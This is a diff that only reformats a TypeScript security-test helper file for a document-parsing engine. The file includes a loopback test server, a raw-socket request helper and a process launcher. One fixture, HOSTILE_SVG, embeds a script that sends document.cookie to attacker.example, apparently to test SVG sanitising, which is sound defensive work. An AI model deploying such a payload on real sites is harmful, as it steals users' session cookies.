@@ -27,7 +27,10 @@ export interface TinyServer {
 }
 
 /** A loopback HTTP server answering with `route` (a 404 when it returns false). */
-export async function tinyServer(route: (req: IncomingMessage, res: ServerResponse) => boolean | void, host = '127.0.0.1'): Promise<TinyServer> {
+export async function tinyServer(
+  route: (req: IncomingMessage, res: ServerResponse) => boolean | void,
+  host = '127.0.0.1',
+): Promise<TinyServer> {
   const seen: string[] = [];
   const server = createServer((req, res) => {
     seen.push(req.url ?? '/');
@@ -41,18 +44,22 @@ export async function tinyServer(route: (req: IncomingMessage, res: ServerRespon
   return {
     origin: `http://${host}:${port}`,
     seen,
-    close: () => new Promise<void>((r) => {
-      server.closeAllConnections();
-      server.close(() => r());
-    }),
+    close: () =>
+      new Promise<void>((r) => {
+        server.closeAllConnections();
+        server.close(() => r());
+      }),
   };
 }
 
 /** A 1×1 PNG. */
 export const PNG_1X1 = Buffer.from(
-  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==', 'base64');
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
+  'base64',
+);
 
-export const HOSTILE_SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://attacker.example/?k="+document.cookie)</script></svg>';
+export const HOSTILE_SVG =
+  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://attacker.example/?k="+document.cookie)</script></svg>';
 
 export const ENGINE_KEY = 'sk-security-0123456789abcdef';
 const REPO = fileURLToPath(new URL('../../', import.meta.url));
@@ -74,9 +81,15 @@ export interface EngineProcess {
 /** The engine CLI in its own process (key from the environment), so a crash cannot hide in the test runner. */
 export async function startEngineProcess(extraArgs: string[] = []): Promise<EngineProcess> {
   const dataDir = await tempDir('dp-sec-engine-');
-  const child = spawn(process.execPath, [join(REPO, 'engine/cli/server.ts'), '--port', '0', '--workers', '1', '--data-dir', dataDir, ...extraArgs], {
-    cwd: REPO, env: { ...process.env, DOCPARSE_API_KEYS: ENGINE_KEY }, stdio: ['ignore', 'pipe', 'pipe'],
-  });
+  const child = spawn(
+    process.execPath,
+    [join(REPO, 'engine/cli/server.ts'), '--port', '0', '--workers', '1', '--data-dir', dataDir, ...extraArgs],
+    {
+      cwd: REPO,
+      env: { ...process.env, DOCPARSE_API_KEYS: ENGINE_KEY },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    },
+  );
   let err = '';
   child.stderr!.on('data', (c: Buffer) => (err += c.toString()));
   const url = await new Promise<string>((resolve, reject) => {
@@ -105,7 +118,11 @@ export async function startEngineProcess(extraArgs: string[] = []): Promise<Engi
 }
 
 /** Writes raw bytes to host:port and resolves with whatever comes back once the peer closes (or `ms` pass). */
-export function rawRequest(port: number, chunks: (string | Buffer)[], opts: { halfClose?: boolean; ms?: number } = {}): Promise<string> {
+export function rawRequest(
+  port: number,
+  chunks: (string | Buffer)[],
+  opts: { halfClose?: boolean; ms?: number } = {},
+): Promise<string> {
   return new Promise((resolve) => {
     const sock = connect(port, '127.0.0.1');
     let got = '';
